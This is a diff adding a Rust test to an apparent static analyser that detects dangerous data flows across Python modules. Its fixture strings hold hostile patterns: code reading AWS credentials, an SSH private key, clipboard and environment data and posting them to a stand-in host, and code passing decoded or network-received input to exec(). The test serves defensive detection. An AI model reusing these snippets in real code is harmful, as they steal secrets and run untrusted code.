@@ -51,6 +51,32 @@ fn data_that_one_module_gathers_and_another_sends_is_one_flow() {
 }
 
 #[test]
+fn whatever_brings_data_into_a_file_may_bring_it_for_another() {
+    let send = "from .a import f\nimport requests\n\ndef g():\n    requests.post('https://x.example.net', data=f())\n";
+    for (rule, gather) in [
+        ("AL-FLOW-credentials-to-network", "import boto3\ndef f(): return boto3.Session().get_credentials()\n"),
+        ("AL-FLOW-key-file-to-network", "import codecs\ndef f(): return codecs.open('/home/u/.ssh/id_rsa').read()\n"),
+        ("AL-FLOW-key-file-to-network", "from x import at\ndef f(): return at('/home/u/.ssh/id_rsa').read_text()\n"),
+        ("AL-FLOW-clipboard-to-network", "import subprocess as s\ndef f(): return s.check_output(['pbpaste'])\n"),
+        ("AL-FLOW-environment-to-network", "def f(): return __import__('os').environb.copy()\n"),
+    ] {
+        let files = [("p/__init__.py", ""), ("p/a.py", gather), ("p/b.py", send)];
+        assert_eq!(ways(&files, rule).len(), 1, "{gather}");
+    }
+    let run = "def g(code):\n    exec(code)\n";
+    for (rule, hand_on) in [
+        ("AL-FLOW-decoded-to-execute", "import base64\ndef f(text): g(base64.b64decode(text))\n"),
+        ("AL-FLOW-download-execute", "def f(link): g(link.recv(100))\n"),
+        ("AL-FLOW-input-to-process", "import sys\ndef f(): g(sys.stdin.read())\n"),
+        ("AL-FLOW-input-to-process", "from bottle import request\ndef f(): g(request.query)\n"),
+    ] {
+        let hand_on = format!("from .a import g\n{hand_on}");
+        let files = [("p/__init__.py", ""), ("p/a.py", run), ("p/b.py", &hand_on)];
+        assert_eq!(ways(&files, rule).len(), 1, "{hand_on}");
+    }
+}
+
+#[test]
 fn a_client_of_the_package_s_own_sends_as_what_it_stands_on_does() {
     let client =
         "import requests\n\nclass Client(requests.Session):\n    def keep(self, body):\n        self.body = body\n";
